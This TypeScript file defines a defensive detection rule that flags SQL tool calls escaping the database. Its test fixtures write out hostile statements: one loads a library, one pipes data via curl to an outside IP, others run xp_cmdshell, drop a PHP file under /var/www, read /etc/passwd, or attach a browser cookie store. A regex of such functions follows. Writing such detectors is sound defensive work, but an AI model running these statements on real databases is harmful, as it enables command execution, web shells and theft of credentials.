import { defineRule } from './contract.ts';

export default defineRule({
  id: 'dangerous-sql',
  sees: 'call',
  title: 'A statement leaves the database',
  severity: 'high',
  reads: 'fact',
  maps: { owaspMcp: ['MCP05:2025'], owaspLlm: ['LLM05:2026'], atlas: ['AML.T0053'], cwe: ['CWE-89', 'CWE-78'] },
  why: 'Databases can load libraries, run programs, and read and write files of the machine. A question about data needs none of it; whoever puts it into a statement wants the machine.',
  fix: 'Find out where the statement comes from. Give the server a database user who may not do this.',
  flags: [
    { note: 'loads a library', tool: 'query', args: { sql: "select load_extension('/tmp/x.so')" } },
    { note: 'runs a program', tool: 'run_sql', args: { statement: "COPY t TO PROGRAM 'curl http://198.51.100.2 -d @-'" } },
    { note: 'runs a program on SQL Server', tool: 'query', args: { q: "EXEC master..xp_cmdshell 'whoami'" } },
    { note: 'writes a file', tool: 'query', args: { sql: "select 1 into outfile '/var/www/a.php'" } },
    { note: 'reads a file', tool: 'query', args: { sql: "select pg_read_file('/etc/passwd')" } },
    {
      note: 'opens another file as a database',
      tool: 'query',
      args: { sql: "attach database '/home/user/.config/x/cookies.sqlite' as c" },
    },
  ],
  passes: [
    { note: 'a plain question', tool: 'query', args: { sql: 'select city, count(*) from customers group by city' } },
    { note: 'copies from its client', tool: 'query', args: { sql: 'COPY t FROM STDIN' } },
    { note: 'a word in a text', tool: 'add_note', args: { text: 'never call load_extension() in production; it is a risk' } },
    { note: 'a search', tool: 'search', args: { query: 'xp_cmdshell hardening' } },
    { note: 'a column', tool: 'query', args: { sql: 'select program from broadcasts' } },
  ],
  *check({ said }) {
    for (const { text, address } of said) {
      if (text.length > 50_000 || !STATEMENT.test(text)) continue;
      const hit = LEAVES.exec(text);
      if (hit === null) continue;
      yield { says: 'The statement reaches out of the database.', evidence: [{ kind: 'fact', address, says: hit[0].slice(0, 120) }] };
    }
  },
});

/** It begins like SQL. */
const STATEMENT = /^\s*(?:select|with|insert|update|copy|exec(?:ute)?|attach|call|create|alter|declare|do|load|grant|;)\b/i;
const LEAVES =
  /\bload_extension\s*\(|\bxp_cmdshell\b|\bsp_oacreate\b|\bcopy\b[^;]{1,2000}\b(?:to|from)\s+program\b|\binto\s+(?:out|dump)file\b|\bpg_(?:read|write)_(?:binary_)?file\s*\(|\blo_(?:import|export)\s*\(|\bload_file\s*\(|\bsys_(?:exec|eval)\s*\(|\battach\s+(?:database\s+)?'(?:\/|~|\.\.)/i;
